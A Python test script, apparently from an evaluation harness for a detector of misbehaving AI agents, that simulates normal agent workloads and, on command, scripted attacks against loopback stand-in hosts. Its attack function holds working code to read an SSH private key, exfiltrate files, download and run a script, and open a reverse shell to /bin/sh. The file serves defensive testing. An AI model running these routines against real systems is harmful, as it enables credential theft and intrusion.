#!/usr/bin/env python3
"""Agent-like workloads and attacks for `cargo xtask eval`.

Usage: agent.py ROLE WORKDIR SEED PORTS

ROLE is one of
  coder      edits source files, runs tools and tests, calls one API
  data       reads a directory of data files, posts summaries to its API
  scheduler  runs a periodic job (a shell pipeline), reports to its API now and then
WORKDIR holds the agent's files (created by the harness: src/, data/, home/.ssh/id_rsa).
SEED makes the run reproducible. PORTS is "API:EXFIL:DOWNLOAD:SHELL" (servers on 0.0.0.0).

Each role loops over a fixed repertoire with random choices and random pauses, so everything
it does shows up early (its baseline can settle) while no two windows look alike.

Commands on standard input, one per line; each prints "done KIND START_MS" when finished
(START_MS: wall-clock ms when the attack's first step began):
  ping              prints "pong" (the harness checks the agent is alive and not frozen)
  credential        read $HOME/.ssh/id_rsa
  exfil             read a data file and send it to a new destination
  download_exec     fetch a script from a new destination, write it to /tmp, run it
  reverse_shell     connect to a new destination and hand it an interactive /bin/sh
  cpu               burn a CPU for 20 s in a child interpreter (mining-like)
  slow_exfil        send 64 bytes to a new destination every 2 s, 5 times
  slow_exfil_known  the same, to the agent's own API destination (already baselined)
  mimicry           the normal routine plus one new step: read /var/lib/dpkg/status
"""
import os
import random
import select
import socket
import stat
import subprocess
import sys
import time

role, workdir, seed, ports = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
API, EXFIL, DOWNLOAD, SHELL = (int(p) for p in ports.split(":"))
rng = random.Random(seed)
# Each role talks to its own API address; attacks use addresses no role ever uses.
API_HOST = {"coder": "127.0.0.2", "data": "127.0.0.3", "scheduler": "127.0.0.4"}[role]


def now_ms():
    return int(time.time() * 1000)


def send(host, port, payload=b"", read=True):
    try:
        with socket.create_connection((host, port), timeout=2) as s:
            if payload:
                s.sendall(payload)
            if read:
                s.recv(256)
    except OSError:
        pass


def run(*argv):
    subprocess.run(list(argv), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


def coder():
    src = os.path.join(workdir, "src")
    files = sorted(os.listdir(src))
    for _ in range(rng.randint(1, 4)):
        with open(os.path.join(src, rng.choice(files))) as f:
            f.read()
    if rng.random() < 0.5:
        path = os.path.join(src, rng.choice(files))
        with open(path, "a") as f:
            f.write("// edit\n")
    tool = rng.choice([["/bin/true"], ["/bin/ls", src], [sys.executable, "-c", "pass"]])
    run(*tool)
    if rng.random() < 0.7:
        send(API_HOST, API, b"GET /complete\n")
    time.sleep(rng.uniform(0.2, 1.5))


def data():
    d = os.path.join(workdir, "data")
    files = sorted(os.listdir(d))
    total = 0
    for name in rng.sample(files, rng.randint(2, 6)):
        with open(os.path.join(d, name), "rb") as f:
            total += len(f.read())
    out = os.path.join(workdir, "out", "summary.txt")
    with open(out, "w") as f:
        f.write(f"{total}\n")
    send(API_HOST, API, f"POST /results {total}\n".encode())
    time.sleep(rng.uniform(0.5, 2.5))


def scheduler():
    run("/bin/sh", "-c", "ls /var/tmp > /dev/null; cat /etc/hostname > /dev/null")
    if rng.random() < 0.4:
        send(API_HOST, API, b"POST /heartbeat\n")
    time.sleep(rng.uniform(2.0, 4.0))


ROUTINE = {"coder": coder, "data": data, "scheduler": scheduler}[role]


def attack(kind):
    start = now_ms()
    if kind == "credential":
        with open(os.path.join(os.environ["HOME"], ".ssh", "id_rsa"), "rb") as f:
            f.read()
    elif kind == "exfil":
        d = os.path.join(workdir, "data" if role == "data" else "src")
        name = sorted(os.listdir(d))[0]
        with open(os.path.join(d, name), "rb") as f:
            blob = f.read()
        send("127.0.0.77", EXFIL, blob, read=False)
    elif kind == "download_exec":
        with socket.create_connection(("127.0.0.55", DOWNLOAD), timeout=2) as s:
            script = s.recv(4096)
        path = f"/tmp/custos-eval-{os.getpid()}-{rng.randrange(1 << 30)}"
        with open(path, "wb") as f:
            f.write(script)
        os.chmod(path, stat.S_IRWXU)
        run(path)
        os.unlink(path)
    elif kind == "reverse_shell":
        s = socket.create_connection(("127.0.0.66", SHELL), timeout=5)
        shell = subprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
        shell.wait(timeout=10)
        s.close()
    elif kind == "cpu":
        run(sys.executable, "-c", "import time\nend = time.time() + 20\nwhile time.time() < end: pass")
    elif kind == "slow_exfil":
        for _ in range(5):
            send("127.0.0.88", EXFIL, b"x" * 64, read=False)
            time.sleep(2)
    elif kind == "slow_exfil_known":
        for _ in range(5):
            send(API_HOST, API, b"x" * 64)
            time.sleep(2)
    elif kind == "mimicry":
        ROUTINE()
        with open("/var/lib/dpkg/status", "rb") as f:
            f.read(4096)
    else:
        print(f"unknown {kind}", flush=True)
        return
    print(f"done {kind} {start}", flush=True)


print("started", flush=True)
while True:
    ROUTINE()
    ready, _, _ = select.select([sys.stdin], [], [], 0)
    if not ready:
        continue
    command = sys.stdin.readline().strip()
    if command == "":
        break
    if command == "ping":
        print("pong", flush=True)
    else:
        attack(command)
